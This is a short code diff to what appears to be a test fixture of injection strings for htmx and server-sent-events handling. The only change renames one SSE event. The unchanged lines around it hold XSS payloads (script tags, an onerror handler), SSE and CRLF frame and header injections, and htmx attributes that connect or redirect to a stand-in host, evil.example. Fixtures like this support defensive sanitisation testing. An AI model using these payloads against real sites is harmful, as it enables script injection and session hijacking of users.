@@ -193,7 +193,7 @@ export const injections: string[] = [
   "<div hx-ext=sse sse-connect=//evil.example/ sse-swap=x>x</div>",
   "<template><div id=dialog hx-swap-oob=true>gone</div></template>",
   "event: open\ndata: <script>ran()</script>\n\n",
-  "\n\nevent: restarted\ndata: x\n\nid: 9",
+  "\n\nevent: epoch-changed\ndata: x\n\nid: 9",
   "\r\rdata: <img src=x onerror=ran()>\r\r",
   "HX-Redirect: //evil.example/\r\nHX-Trigger: dialog-close\r\n\r\n<script>ran()</script>",
 
